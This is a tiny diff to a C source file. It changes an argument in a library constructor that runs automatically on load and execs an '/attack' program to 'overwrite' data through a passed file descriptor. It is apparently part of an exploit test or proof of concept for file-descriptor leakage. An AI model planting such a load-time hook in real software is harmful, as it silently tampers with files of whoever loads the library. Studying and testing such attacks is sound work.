@@ -20,5 +20,5 @@ __attribute__((constructor)) static void go(void) {
   snprintf(number, sizeof number, "%d", fd);
   printf("tried\n");
   fflush(stdout);
-  execl("/attack", "attack", "overwrite", number, "3000", (char *) 0);
+  execl("/attack", "attack", "overwrite", number, "8000", (char *) 0);
 }
